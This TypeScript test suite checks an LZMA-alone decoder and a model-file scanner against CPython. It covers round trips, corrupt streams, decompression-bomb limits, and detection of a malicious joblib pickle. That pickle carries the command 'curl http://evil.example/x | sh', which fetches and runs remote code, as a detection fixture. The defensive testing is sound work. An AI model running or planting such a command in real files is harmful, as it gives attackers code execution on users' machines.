// Our LZMA-alone decoder against CPython's lzma (liblzma) as the oracle: byte-exact round trips,
// limits, broken streams, and joblib-style files through the scanner.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { decodeAlone, decodeAloneStreams, isLzmaAloneByName, isPresetLzmaAlone } from '../../../server/src/core/formats/compression/lzma/alone';
import { OutWindow } from '../../../server/src/core/formats/compression/lzma/window';
import { decompressRange } from '../../../server/src/core/formats/compression/bounded';
import { BufferByteSource } from '../../../server/src/core/io/byteSource';
import { scanFile } from '../../../server/src/core/scan';
import { lzmaOracle, PRESET_EXTREME, withKnownSize, type CaseSpec } from '../../fixtures/lzma/oracle';
import { encodeLiterals } from '../../fixtures/lzma/literalEncoder';
import { osSystemPickle } from '../../fixtures/zip/pickles';
import { rng } from '../keras/fuzzCases';
import { byRule, one, scan } from './helpers';

const MB = 1024 * 1024;
const b64 = (b: Uint8Array | string) => Buffer.from(b).toString('base64');
const CMD = 'curl http://evil.example/x | sh';
const evil = osSystemPickle(CMD);

const ROUND_TRIPS: CaseSpec[] = [
  { name: 'empty', data: { kind: 'bytes', b64: '' } },
  { name: 'one byte', data: { kind: 'bytes', b64: b64('B') } },
  { name: 'text, 200 KB', data: { kind: 'text', size: 200_000, seed: 1 } },
  { name: 'random, 100 KB (incompressible)', data: { kind: 'random', size: 100_000, seed: 2 } },
  { name: 'zeros, 3 MB', data: { kind: 'zeros', size: 3 * MB } },
  { name: 'repeating pattern, 1 MB', data: { kind: 'pattern', size: MB, unit: 'abc' } },
  { name: 'pickle', data: { kind: 'pickle', n: 300 } },
  { name: '300 KB through a 4 KiB dictionary', data: { kind: 'far-repeats', size: 300_000, seed: 3, block: 3000 }, filters: { dict_size: 4096 } },
  { name: '1 MB through a 64 KiB dictionary', data: { kind: 'far-repeats', size: MB, seed: 4, block: 20_000 }, filters: { dict_size: 1 << 16 } },
  { name: '600 KB, 1.5 MiB dictionary', data: { kind: 'far-repeats', size: 600_000, seed: 5, block: 100_000 }, filters: { dict_size: 3 << 19 } },
  ...([[0, 0, 0], [4, 0, 2], [0, 4, 4], [1, 3, 0], [2, 2, 1], [3, 1, 3], [0, 0, 4], [3, 0, 0]] as const).map(([lc, lp, pb]) => ({
    name: `lc=${lc} lp=${lp} pb=${pb}`,
    data: { kind: 'far-repeats' as const, size: 150_000, seed: 10 + lc, block: 700 },
    filters: { lc, lp, pb, dict_size: 1 << 16 },
  })),
  { name: 'fast mode, hc3', data: { kind: 'text', size: 150_000, seed: 6 }, filters: { mode: 'fast', mf: 'hc3' } },
  { name: 'fast mode, hc4', data: { kind: 'far-repeats', size: 150_000, seed: 7 }, filters: { mode: 'fast', mf: 'hc4' } },
  { name: 'normal mode, bt2', data: { kind: 'text', size: 150_000, seed: 8 }, filters: { mode: 'normal', mf: 'bt2' } },
  { name: 'normal mode, bt3, nice_len 273', data: { kind: 'far-repeats', size: 150_000, seed: 9 }, filters: { mode: 'normal', mf: 'bt3', nice_len: 273 } },
  { name: 'preset 0', data: { kind: 'text', size: 200_000, seed: 10 }, preset: 0 },
  { name: 'preset 9 extreme', data: { kind: 'far-repeats', size: 300_000, seed: 11 }, preset: 9 + PRESET_EXTREME },
];

const EXTRA: CaseSpec[] = [
  { name: 'evil pickle', data: { kind: 'bytes', b64: b64(evil) } },
  { name: 'evil pickle, lc=0 lp=0 pb=0', data: { kind: 'bytes', b64: b64(evil) }, filters: { lc: 0, lp: 0, pb: 0 } },
  { name: 'small text', data: { kind: 'text', size: 5000, seed: 12 } },
  { name: 'zeros, 48 MB (bomb)', data: { kind: 'zeros', size: 48 * MB }, preset: 0 },
];

const generated = lzmaOracle([...ROUND_TRIPS, ...EXTRA]).cases;
const byName = new Map(generated.map((c) => [c.name, c]));
const get = (name: string) => byName.get(name)!;
const trips = generated.slice(0, ROUND_TRIPS.length);

/** Streams our own writer produces (known size, no end marker), checked by CPython below. */
const literalData = [Buffer.alloc(0), get('small text').raw, Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 7919) & 0xff))];
const literalProps = [[3, 0, 2], [0, 0, 0], [1, 2, 3], [8, 4, 4]] as const;
const literalStreams = literalData.flatMap((d) => literalProps.map(([lc, lp, pb]) => ({ data: d, lc, lp, pb, stream: encodeLiterals(d, { lc, lp, pb }) })));

/** Joblib-style file with a dictionary size no preset writes (joblib only checks `5d 00`). */
const oddDict = Buffer.from(get('evil pickle').stream);
oddDict.writeUInt32LE(0x12345600, 1);

const decodeChecks = [
  ...trips.map((c) => withKnownSize(c.stream, c.raw.length)),
  ...literalStreams.map((s) => s.stream),
  Buffer.concat([get('small text').stream, get('pickle').stream]),
  Buffer.concat([get('small text').stream, Buffer.alloc(32, 0xff)]),
  oddDict,
];
const oracleDecoded = lzmaOracle([], decodeChecks).decoded;
const oracleData = (i: number) => {
  const d = oracleDecoded[i]!;
  assert.ok(d.ok, `CPython failed on check ${i}: ${d.ok ? '' : d.error}`);
  return d.data;
};

describe('LZMA-alone decoder: byte-exact against CPython', () => {
  for (const c of trips) {
    it(`${c.name}: ${c.raw.length} bytes from ${c.stream.length}`, () => {
      const r = decodeAlone(c.stream, Number.MAX_SAFE_INTEGER);
      assert.deepEqual([r.status, r.detail, r.streams, r.trailing, r.data.length], ['end', undefined, 1, 0, c.raw.length]);
      assert.ok(Buffer.from(r.data).equals(c.raw), 'output differs from the original');
    });
  }

  it('known-size headers (the end marker after the data) decode the same, as in CPython', () => {
    trips.forEach((c, i) => {
      const r = decodeAlone(withKnownSize(c.stream, c.raw.length), Number.MAX_SAFE_INTEGER);
      assert.equal(r.status, 'end', c.name);
      assert.ok(Buffer.from(r.data).equals(c.raw) && oracleData(i).equals(c.raw), c.name);
    });
  });

  it('known-size streams without an end marker (our literal writer, checked by CPython)', () => {
    literalStreams.forEach((s, k) => {
      const label = `${s.data.length} bytes lc=${s.lc} lp=${s.lp} pb=${s.pb}`;
      const r = decodeAlone(s.stream, Number.MAX_SAFE_INTEGER);
      assert.deepEqual([r.status, r.trailing], ['end', 0], label);
      assert.ok(Buffer.from(r.data).equals(s.data), label);
      // lc + lp > 4 is valid LZMA that liblzma refuses; the others CPython decodes identically.
      if (s.lc + s.lp <= 4) assert.ok(oracleData(trips.length + k).equals(s.data), `CPython: ${label}`);
    });
  });

  it('the same literal streams with an unknown size lack their required marker: truncated, output kept', () => {
    const d = get('small text').raw;
    const r = decodeAlone(encodeLiterals(d, { lc: 3, lp: 0, pb: 2, unknownSize: true }), Number.MAX_SAFE_INTEGER);
    assert.equal(r.status, 'truncated');
    assert.ok(Buffer.from(r.data).equals(d));
  });

  it('decodes input that arrives in small uneven chunks', () => {
    const r0 = rng(7);
    for (const name of ['text, 200 KB', '300 KB through a 4 KiB dictionary', 'lc=0 lp=4 pb=4', 'one byte', 'empty']) {
      const c = get(name);
      const pieces: Uint8Array[] = [];
      for (let at = 0; at < c.stream.length; ) {
        const n = Math.floor(r0() * 40);
        pieces.push(c.stream.subarray(at, at + n));
        at += n;
      }
      const out: Uint8Array[] = [];
      const r = decodeAloneStreams(pieces[Symbol.iterator](), c.stream.length, (x) => (out.push(x), true), Number.MAX_SAFE_INTEGER);
      assert.equal(r.status, 'end', name);
      assert.ok(Buffer.concat(out).equals(c.raw), name);
    }
  });

  it('back-to-back streams are concatenated and junk after the last one is counted, as CPython does', () => {
    const base = trips.length + literalStreams.length;
    const both = decodeAlone(decodeChecks[base]!, Number.MAX_SAFE_INTEGER);
    const expected = Buffer.concat([get('small text').raw, get('pickle').raw]);
    assert.deepEqual([both.status, both.streams, both.trailing], ['end', 2, 0]);
    assert.ok(Buffer.from(both.data).equals(expected) && oracleData(base).equals(expected));
    const junk = decodeAlone(decodeChecks[base + 1]!, Number.MAX_SAFE_INTEGER);
    assert.deepEqual([junk.status, junk.streams, junk.trailing], ['end', 1, 32]);
    assert.ok(Buffer.from(junk.data).equals(get('small text').raw) && oracleData(base + 1).equals(get('small text').raw));
  });

  it('stops at the output limit with the exact prefix', () => {
    const c = get('300 KB through a 4 KiB dictionary');
    for (const limit of [0, 1, 4095, 4096, 100_000, c.raw.length - 1]) {
      const r = decodeAlone(c.stream, limit);
      assert.deepEqual([r.status, r.data.length], ['limit', limit], `limit ${limit}`);
      assert.ok(Buffer.from(r.data).equals(c.raw.subarray(0, limit)), `limit ${limit}`);
    }
    assert.equal(decodeAlone(c.stream, c.raw.length).status, 'end');
  });
});

describe('LZMA-alone decoder: broken input', () => {
  const c = get('text, 200 KB');

  it('truncated streams end with a prefix of the data, never a throw', () => {
    for (const cut of [0, 5, 12, 13, 14, 17, 18, 100, c.stream.length >> 1, c.stream.length - 5, c.stream.length - 1]) {
      const r = decodeAlone(c.stream.subarray(0, cut), Number.MAX_SAFE_INTEGER);
      assert.equal(r.status, 'truncated', `cut at ${cut}`);
      assert.ok(r.data.length <= c.raw.length && Buffer.from(r.data).equals(c.raw.subarray(0, r.data.length)), `cut at ${cut}`);
    }
    assert.ok(decodeAlone(c.stream.subarray(0, c.stream.length >> 1), Number.MAX_SAFE_INTEGER).data.length > 50_000);
  });

  it('corrupted streams agree with CPython: same verdict, and the same bytes as far as both got', () => {
    const small = get('small text').stream;
    const r0 = rng(99);
    const variants: Buffer[] = [];
    for (let i = 0; i < 60; i++) {
      const m = Buffer.from(small);
      const at = 13 + Math.floor(r0() * (m.length - 13));
      m[at] = i % 2 ? m[at]! ^ (1 << Math.floor(r0() * 8)) : Math.floor(r0() * 256);
      variants.push(m);
    }
    const oracle = lzmaOracle([], variants).decoded;
    let failures = 0;
    variants.forEach((v, i) => {
      const ours = decodeAlone(v, 16 * MB);
      const theirs = oracle[i]!;
      if (ours.status !== 'end') failures++;
      const label = `variant ${i}: ours ${ours.status} ${ours.detail ?? ''}, CPython ${theirs.ok ? 'ok' : theirs.error}`;
      assert.equal(ours.status === 'end', theirs.ok, label);
      const common = Math.min(ours.data.length, theirs.data.length);
      assert.ok(Buffer.from(ours.data).subarray(0, common).equals(theirs.data.subarray(0, common)), label);
      if (theirs.ok) assert.ok(Buffer.from(ours.data).equals(theirs.data), label);
    });
    assert.ok(failures > 30, `most corruptions are detected (${failures})`);
  });

  it('a bad properties byte or range-coder start is corrupt', () => {
    const bad = Buffer.from(c.stream);
    bad[0] = 225;
    assert.equal(decodeAlone(bad, MB).status, 'corrupt');
    const noZero = Buffer.from(c.stream);
    noZero[13] = 1;
    assert.deepEqual([decodeAlone(noZero, MB).status, decodeAlone(noZero, MB).data.length], ['corrupt', 0]);
  });

  it('a huge declared dictionary or size allocates only what the output needs', () => {
    const huge = Buffer.from(c.stream);
    huge.writeUInt32LE(0xffffffff, 1);
    assert.ok(Buffer.from(decodeAlone(huge, Number.MAX_SAFE_INTEGER).data).equals(c.raw));
    const lying = withKnownSize(c.stream, 2 ** 52);
    const r = decodeAlone(lying, Number.MAX_SAFE_INTEGER);
    assert.deepEqual([r.status, r.detail], ['corrupt', `the end-of-stream marker comes after ${c.raw.length} bytes, before the declared uncompressed size`]);
    assert.ok(Buffer.from(r.data).equals(c.raw));
    const w = new OutWindow(0xffffffff, Number.MAX_SAFE_INTEGER, () => true);
    assert.equal(w.capacity, 64 * 1024);
    for (let i = 0; i < 200_000; i++) w.put(i & 0xff);
    assert.equal(w.capacity, 256 * 1024);
    const capped = new OutWindow(0xffffffff, 1000, () => true);
    assert.deepEqual([capped.capacity, capped.limit], [1000, 1000]);
  });
});

describe('LZMA-alone recognition', () => {
  const stream = get('evil pickle').stream;

  it('from bytes alone: preset headers only, nothing arbitrary', () => {
    assert.equal(isPresetLzmaAlone(stream), true);
    assert.equal(isPresetLzmaAlone(get('lc=0 lp=0 pb=0').stream), false, 'non-preset properties need a name');
    assert.equal(isPresetLzmaAlone(oddDict), false);
    const r0 = rng(5);
    const zeros = new Uint8Array(4096);
    const lookalike = Buffer.from([0x00, 0x00, 0x00, 0x01, 0x00, ...new Array(64).fill(0)]);
    assert.equal(isPresetLzmaAlone(zeros) || isPresetLzmaAlone(lookalike), false);
    for (let i = 0; i < 5000; i++) {
      const head = Uint8Array.from({ length: 64 }, () => Math.floor(r0() * 256));
      assert.equal(isPresetLzmaAlone(head), false);
      for (const name of ['model.joblib', 'model.pkl', 'x.bin']) assert.equal(isLzmaAloneByName(head, name) && head[0] !== 0x5d, false);
    }
  });

  it('with a name: joblib names need joblib`s own 5d 00 prefix, .lzma any valid header', () => {
    assert.equal(isLzmaAloneByName(oddDict, 'model.joblib'), true);
    assert.equal(isLzmaAloneByName(oddDict, 'model.PKL'), true);
    assert.equal(isLzmaAloneByName(oddDict, 'model.bin'), false);
    const lc0 = get('lc=0 lp=0 pb=0').stream;
    assert.equal(isLzmaAloneByName(lc0, 'model.joblib'), false, 'joblib would not decompress it');
    assert.equal(isLzmaAloneByName(lc0, 'weights.lzma'), true);
    const lookalike = Buffer.from([0x00, 0x00, 0x00, 0x01, 0x00, ...new Array(64).fill(0)]);
    assert.equal(isLzmaAloneByName(lookalike, 'model.joblib'), false);
  });
});

/** The os.system finding inside the decompressed pickle. */
function assertOsSystem(findings: { ruleId: string; severity: string; evidence?: string; location: { kind: string; members?: string[] } }[]): void {
  const f = findings.find((x) => x.ruleId === 'MSL601' && /system/.test(x.evidence ?? ''));
  assert.ok(f, JSON.stringify(findings.map((x) => [x.ruleId, x.evidence])));
  assert.equal(f.severity, 'critical');
  assert.ok(f.evidence!.includes(CMD));
  assert.deepEqual(f.location.members, ['<decompressed>']);
}

describe('LZMA-alone files through the scanner', () => {
  it('a joblib lzma file with a malicious pickle: critical finding, nothing left unanalysed', async () => {
    for (const name of ['model.joblib', 'model.pkl', 'model.joblib.lzma']) {
      const r = await scan(get('evil pickle').stream, name);
      assert.equal(r.format, 'lzma', name);
      assertOsSystem(r.findings);
      assert.deepEqual(byRule(r, 'MSL715'), [], name);
      assert.equal(r.summary.facts!.decompressedBytes, evil.length);
    }
  });

  it('headers only a name admits: odd dictionary under a joblib name, other properties as .lzma', async () => {
    assert.ok(oracleData(decodeChecks.length - 1).equals(Buffer.from(evil)), 'CPython reads the odd-dictionary file too');
    const joblib = await scan(oddDict, 'model.joblib');
    assert.deepEqual([joblib.format, joblib.detectedBy], ['lzma', 'content']);
    assertOsSystem(joblib.findings);
    assert.notEqual((await scan(oddDict, 'blob.bin')).format, 'lzma');
    const lc0 = await scan(get('evil pickle, lc=0 lp=0 pb=0').stream, 'payload.lzma');
    assert.equal(lc0.format, 'lzma');
    assertOsSystem(lc0.findings);
  });

  it('truncated, corrupt and trailing-junk files are findings with the readable part analysed', async () => {
    const s = get('evil pickle').stream;
    const cut = await scan(s.subarray(0, s.length - 4), 'model.joblib');
    assert.match(one(cut, 'MSL710').message, /^The lzma stream is corrupt or truncated after \d+ decompressed bytes \(the compressed data ends before the stream does\)/);
    const junk = await scan(Buffer.concat([s, Buffer.alloc(100, 0xff)]), 'model.joblib');
    assert.deepEqual(one(junk, 'MSL717').location, { kind: 'bytes', offset: s.length, length: 100 });
    assert.equal(one(junk, 'MSL717').severity, 'low');
    assertOsSystem(junk.findings);
    for (const r of [cut, junk]) assert.deepEqual(byRule(r, 'MSL003'), []);
  });

  it('a decompression bomb stops at the ratio and budget limits', async () => {
    const bomb = get('zeros, 48 MB (bomb)').stream;
    const bounded = await decompressRange('lzma', new BufferByteSource(bomb), 0, bomb.length, { cap: Number.MAX_SAFE_INTEGER, maxRatio: 50, take: () => true });
    assert.equal(bounded.stop, 'ratio');
    assert.ok(bounded.data.length <= MB + 256 * 1024 + 1, `${bounded.data.length}`);
    const ratio = await scan(bomb, 'model.joblib', { maxCompressionRatio: 100 });
    assert.match(one(ratio, 'MSL714').message, /^The lzma stream expanded to \d+ bytes from \d+ compressed bytes read, over the ratio limit 100/);
    const budget = await scan(bomb, 'model.joblib', { maxDecompressedBytes: 2 * MB });
    assert.equal(one(budget, 'MSL001').evidence, 'maxDecompressedBytes=2097152');
    assert.ok(budget.summary.facts!.decompressedBytes as number <= 2 * MB);
    const exact = await decompressRange('lzma', new BufferByteSource(bomb), 0, bomb.length, { cap: Number.MAX_SAFE_INTEGER, maxRatio: 1e9, take: () => true, maxOutput: 3 * MB });
    assert.deepEqual([exact.stop, exact.data.length], ['budget', 3 * MB]);
  });

  it('long decodes yield between slices and stop when the wall-time budget is spent', async () => {
    const bomb = get('zeros, 48 MB (bomb)').stream;
    let polls = 0;
    const r = await decompressRange('lzma', new BufferByteSource(bomb), 0, bomb.length, { cap: Number.MAX_SAFE_INTEGER, maxRatio: 1e9, take: () => true, timeUp: () => ++polls > 3 });
    assert.deepEqual([r.stop, polls], ['time', 4]);
    assert.ok(r.data.length >= 1.5 * MB && r.data.length <= 2 * MB, `${r.data.length}`);
    let ticks = 0;
    const timer = setInterval(() => ticks++, 0);
    await decompressRange('lzma', new BufferByteSource(bomb), 0, bomb.length, { cap: 16 * MB, maxRatio: 1e9, take: () => true });
    clearInterval(timer);
    assert.ok(ticks > 0, 'the event loop ran during decompression');
  });

  it('the genuine joblib lzma fixture decompresses to the same pickle as its xz twin', async () => {
    const dir = path.join(__dirname, '../../fixtures/genuine/benign');
    const lz = await scanFile(path.join(dir, 'sklearn_pipeline.joblib.lzma'));
    const xz = await scanFile(path.join(dir, 'sklearn_pipeline.joblib.xz'));
    assert.equal(lz.format, 'lzma');
    assert.ok(fs.statSync(path.join(dir, 'sklearn_pipeline.joblib.lzma')).size > 0);
    assert.deepEqual(lz.summary.facts!.decompressedBytes, xz.summary.facts!.decompressedBytes);
    assert.deepEqual(lz.findings.map((f) => f.ruleId), xz.findings.map((f) => f.ruleId));
    assert.equal(lz.summary.pickles?.length, 1);
  });
});

